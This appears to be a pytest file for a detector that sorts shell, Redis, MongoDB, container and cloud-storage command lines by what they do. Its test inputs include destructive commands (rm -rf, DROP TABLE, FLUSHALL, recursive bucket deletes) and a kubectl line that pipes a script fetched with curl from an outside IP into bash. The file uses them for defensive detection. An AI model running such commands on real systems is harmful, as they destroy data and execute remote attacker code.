"""Command lines of data stores and containers are read by what they do (issue 18): Redis and MongoDB
statements by their command or method — unknown ones run, they do not read — and a command run inside a
container (``docker exec web rm -rf /data``, ``kubectl exec pod -- sh -c '…'``) is judged as a line."""

from __future__ import annotations

import pytest

from detectors.capabilities.shell import analyse
from schemas.types import Capability as C


@pytest.mark.parametrize(
    ("line", "capability"),
    [
        ("redis-cli -h cache FLUSHALL", C.DELETE),
        ("redis-cli -h cache -p 6379 DEL sess:1", C.DELETE),
        ("redis-cli GET k", C.READ),
        ("redis-cli --scan --pattern 'sess:*'", C.READ),
        ('redis-cli EVAL "return 1" 0', C.EXECUTE),
        ("redis-cli REPLICAOF 203.0.113.9 6379", C.EXECUTE),
        ("redis-cli ACL SETUSER bob on >pw +@all", C.IDENTITY),
        ("db.sessions.deleteMany({})", C.DELETE),
        ("db.getCollection('users').deleteMany({})", C.DELETE),
        ("db.getSiblingDB('p').dropDatabase()", C.DELETE),
        ("db.runCommand({dropDatabase: 1})", C.DELETE),
        ("db.orders.updateMany({}, {$set: {x: 1}})", C.WRITE),
        ("db.sessions.find({}).limit(3)", C.READ),
        ("db.eval('x')", C.EXECUTE),
        ("docker exec web rm -rf /data", C.DELETE),
        ("docker exec -it -e A=1 pg psql -c 'DROP TABLE users'", C.DELETE),
        ("kubectl --context prod -n app exec pod -- sh -c 'rm -rf /var/lib/app'", C.DELETE),
    ],
)
def test_what_a_store_or_container_line_does(line: str, capability: C) -> None:
    assert capability in analyse(line).capabilities, analyse(line).capabilities


def test_a_remote_script_inside_a_container_is_remote_code() -> None:
    facts = analyse("kubectl exec deploy/app -- sh -c 'curl -sSL http://198.51.100.7/x.sh | bash'")
    assert "remote_code" in facts.flags


def test_a_crafted_line_of_repeated_git_push_is_read_in_linear_time() -> None:
    """The force-push pattern backtracked for minutes on 20 KB of ``git push git push …`` (review)."""
    import time

    from detectors.vocab import destructive_command

    line = ("git push " * 12_000)[:100_000]
    started = time.process_time()
    destructive_command(line)
    assert time.process_time() - started < 2.0  # was 244 s at 20 KB


@pytest.mark.parametrize(
    ("line", "deleted", "read"),
    [
        ("aws s3 rm s3://survey-raw/ --recursive --exclude '2024-*'", ["s3://survey-raw/"], []),
        ("gsutil -m rm -r gs://exports/old/", ["gs://exports/old/"], []),
        ("aws s3 cp s3://survey-raw/2023/HOLD.txt -", [], ["s3://survey-raw/2023/HOLD.txt"]),
        ("aws s3 ls s3://survey-raw/2023/", [], ["s3://survey-raw/2023/"]),
        ("aws s3 cp ./report.csv s3://partner-drop/in/", [], []),  # an upload reads no bucket
    ],
)
def test_bucket_paths_a_cloud_line_deletes_or_reads(line: str, deleted: list[str], read: list[str]) -> None:
    facts = analyse(line)
    assert facts.deleted == deleted
    assert facts.read == read
    # a bucket path is no system folder, log or service data of the host (a recursive delete of a prefix
    # removes a tree, which is all it says)
    assert not facts.flags - {"recursive_delete"}


@pytest.mark.parametrize(
    "line",
    ["systemctl is-active signalbox-web", "systemctl --user status web-sync.timer", "systemctl show api"],
)
def test_asking_a_service_manager_for_state_only_reads(line: str) -> None:
    """A unit's name (``signalbox-web``) is no web page fetched: the subcommand says what the line does."""
    assert set(analyse(line).capabilities) == {C.READ}
